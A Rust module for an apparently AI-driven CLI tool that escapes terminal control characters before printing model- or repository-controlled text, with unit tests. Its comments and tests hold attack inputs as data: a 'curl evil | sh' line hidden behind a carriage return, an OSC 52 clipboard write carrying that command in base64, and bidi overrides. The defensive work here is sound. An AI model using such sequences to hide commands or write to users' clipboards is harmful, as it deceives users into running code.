//! Terminal-safe text: the one sanitiser every printer of model- or project-controlled text
//! goes through (the CLI's stdout and stderr, `summary.md`, the TUI's diff and panels).
//!
//! Why one: a model controls its answers, the names and bytes of the files it writes and the
//! output of the commands it runs; a cloned repository controls its file names, recipes and
//! criteria. Printed raw, any of them can write to the user's clipboard (OSC 52), retitle the
//! window, hide `curl evil | sh` behind a bare CR, forge a diff header with a newline in a
//! file name, or reorder a line with bidi controls. Each printer escaping "the dangerous
//! characters" its own way is how one of them forgets; here the classification
//! ([`chars`]) and the visible form are decided once.
//!
//! The visible form is an escape naming the character (`\x1b`, `\r`, `\0`, `\u{202e}`), the
//! form Rust's `{:?}` uses, rather than the TUI's old `·`: a reader of `ask` output or
//! `summary.md` can tell an ESC from a NUL from a bidi override, and search for it. (A line
//! that really holds the four characters `\x1b` looks the same; it is as harmless as shown.)
//! Bytes that are not UTF-8 show as `\xNN` with the byte's value ([`lossless`]).
//!
//! How the compiler helps: a printer holds [`Shown`] values ([`line`], [`block`], [`name`])
//! or writes through a [`SafeWriter`] ([`stdout`], [`stderr`]), which escapes whatever goes
//! through it. The modules that print for people deny `std::io::stdout`/`std::io::stderr`
//! and `eprintln!` (`clippy::disallowed_methods`, `clippy::print_stderr`), so the only way
//! out to the terminal is through here. Data formats stay data: JSON is escaped by its own
//! rules ([`json`]), and a diff file keeps its bytes.

pub mod chars;
pub mod json;
mod quote;
mod shell;
mod writer;

use std::borrow::Cow;
use std::fmt;

pub use chars::Layout;
pub use quote::{quote_name, quote_prefixed};
pub use shell::shell_word;
pub use writer::{Control, SafeWriter, stderr, stdout};

/// `text` with every character [`chars::needs_escape`] flags in `layout` replaced by its
/// visible form; borrowed when nothing needed it (the common case costs one scan).
pub fn escape(text: &str, layout: Layout) -> Cow<'_, str> {
    let mut prev = None;
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        let next = chars.peek().map(|&(_, n)| n);
        if chars::needs_escape(c, prev, next, layout) {
            let mut out = String::with_capacity(text.len() + 8);
            out.push_str(&text[..at]);
            escape_rest(&mut out, &text[at..], prev, layout);
            return Cow::Owned(out);
        }
        prev = Some(c);
    }
    Cow::Borrowed(text)
}

/// Appends `rest` escaped to `out`, `prev` being the character before it.
fn escape_rest(out: &mut String, rest: &str, mut prev: Option<char>, layout: Layout) {
    let mut chars = rest.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied();
        if chars::needs_escape(c, prev, next, layout) {
            chars::push_escaped(out, c);
        } else {
            out.push(c);
        }
        prev = Some(c);
    }
}

/// `text[range]` escaped as a [`Layout::Line`], the characters around the range deciding as
/// they do in the whole line: pieces of one line (highlighted words) come out exactly as the
/// whole line does.
pub fn escape_piece(text: &str, start: usize, end: usize) -> Cow<'_, str> {
    let Some(piece) = text.get(start..end) else {
        return Cow::Borrowed("");
    };
    let prev = text[..start].chars().next_back();
    let next = text[end..].chars().next();
    let needs = |c, p, n| chars::needs_escape(c, p, n, Layout::Line);
    let mut p = prev;
    let mut it = piece.chars().peekable();
    let mut clean = true;
    while let Some(c) = it.next() {
        let n = it.peek().copied().or(next);
        if needs(c, p, n) {
            clean = false;
            break;
        }
        p = Some(c);
    }
    if clean {
        return Cow::Borrowed(piece);
    }
    let mut out = String::with_capacity(piece.len() + 8);
    let mut p = prev;
    let mut it = piece.chars().peekable();
    while let Some(c) = it.next() {
        let n = it.peek().copied().or(next);
        if needs(c, p, n) {
            chars::push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
        p = Some(c);
    }
    Cow::Owned(out)
}

/// Bytes as text without losing any: valid UTF-8 as is, each byte of an invalid sequence as
/// `\xNN` (never `U+FFFD`, which would make different bytes look the same). Control and
/// format characters are left for [`escape`]: this only decides what the characters are.
pub fn lossless(bytes: &[u8]) -> Cow<'_, str> {
    use std::fmt::Write;
    if let Ok(text) = std::str::from_utf8(bytes) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(bytes.len() + 16);
    for chunk in bytes.utf8_chunks() {
        out.push_str(chunk.valid());
        for b in chunk.invalid() {
            let _ = write!(out, "\\x{b:02x}");
        }
    }
    Cow::Owned(out)
}

/// Text ready for a terminal or a text report: shows as its escaped form. The only way to
/// make one is [`line`], [`block`] or [`name`], so a printer that takes `Shown` values cannot
/// be handed raw text by mistake.
#[derive(Debug, Clone, Copy)]
pub struct Shown<'a> {
    text: &'a str,
    how: How,
}

#[derive(Debug, Clone, Copy)]
enum How {
    Escaped(Layout),
    Quoted,
}

/// `text` as one line: tabs kept, every other control (newlines too) escaped.
pub fn line(text: &str) -> Shown<'_> {
    Shown {
        text,
        how: How::Escaped(Layout::Line),
    }
}

/// `text` as several lines: newlines, tabs and CRLF line ends kept, every other control
/// escaped.
pub fn block(text: &str) -> Shown<'_> {
    Shown {
        text,
        how: How::Escaped(Layout::Block),
    }
}

/// A file name (or any name) quoted as git quotes paths ([`quote_name`]): as is when it
/// needs nothing, else in double quotes with C escapes.
pub fn name(text: &str) -> Shown<'_> {
    Shown {
        text,
        how: How::Quoted,
    }
}

impl fmt::Display for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.how {
            How::Escaped(layout) => f.write_str(&escape(self.text, layout)),
            How::Quoted => f.write_str(&quote_name(self.text)),
        }
    }
}

/// Columns `text` takes once escaped as a [`Layout::Line`] with tabs as `tab` columns (the
/// TUI lays lines out before drawing them and must count what it will draw).
pub fn line_width(text: &str, tab: usize) -> usize {
    use unicode_width::UnicodeWidthChar;
    let mut prev = None;
    let mut width = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied();
        width += if c == '\t' {
            tab
        } else if chars::needs_escape(c, prev, next, Layout::Line) {
            let mut e = String::new();
            chars::push_escaped(&mut e, c);
            e.len()
        } else {
            c.width().unwrap_or(0)
        };
        prev = Some(c);
    }
    width
}

/// Whether `text` holds a character that [`escape`] would change in `layout`.
pub fn needs_escape(text: &str, layout: Layout) -> bool {
    matches!(escape(text, layout), Cow::Owned(_))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_come_out_visible_and_inert() {
        let osc52 = "copy \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done";
        assert_eq!(
            escape(osc52, Layout::Block),
            r"copy \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done"
        );
        let hidden = "curl evil | sh\r# just a comment\n";
        assert_eq!(
            escape(hidden, Layout::Block),
            "curl evil | sh\\r# just a comment\n"
        );
        assert_eq!(escape("a\r\nb\r\n", Layout::Block), "a\r\nb\r\n");
        assert_eq!(escape("a\r\nb", Layout::Line), r"a\r\nb");
        assert_eq!(
            escape("x = 1; /*\u{202e} } \u{2066}*/", Layout::Line),
            r"x = 1; /*\u{202e} } \u{2066}*/"
        );
        assert_eq!(escape("csi \u{9b}31m", Layout::Line), r"csi \u{9b}31m");
        assert_eq!(escape("nul\0", Layout::Line), r"nul\0");
        assert!(matches!(
            escape("plain\ttext", Layout::Line),
            Cow::Borrowed(_)
        ));
        assert_eq!(escape("a\tb\nc", Layout::Name), r"a\tb\nc");
    }

    #[test]
    fn pieces_escape_as_the_whole_line_does() {
        let text = "⚠\u{fe0f} a\u{200d}b \x1b[2J";
        let whole = escape(text, Layout::Line);
        let cuts = [0, 3, 6, 7, 8, 11, 12, text.len()];
        let mut joined = String::new();
        for pair in cuts.windows(2) {
            joined.push_str(&escape_piece(text, pair[0], pair[1]));
        }
        assert_eq!(joined, whole);
        assert_eq!(whole, r"⚠️ a\u{200d}b \x1b[2J");
    }

    #[test]
    fn invalid_bytes_keep_their_value() {
        assert_eq!(lossless(b"ok"), "ok");
        assert_eq!(lossless(b"caf\xe9 \xff\xfe!"), r"caf\xe9 \xff\xfe!");
        assert_eq!(lossless("é".as_bytes()), "é");
    }

    #[test]
    fn widths_count_what_is_drawn() {
        assert_eq!(line_width("ab", 4), 2);
        assert_eq!(line_width("\tx", 4), 5);
        assert_eq!(line_width("\x1b", 4), 4);
        assert_eq!(line_width("日", 4), 2);
        assert_eq!(line_width("\u{202e}", 4), r"\u{202e}".len());
    }

    #[test]
    fn shown_values_display_escaped() {
        assert_eq!(line("a\nb").to_string(), r"a\nb");
        assert_eq!(block("a\nb\x1b").to_string(), "a\nb\\x1b");
        assert_eq!(name("a\nb").to_string(), r#""a\nb""#);
        assert_eq!(name("src/main.rs").to_string(), "src/main.rs");
    }
}
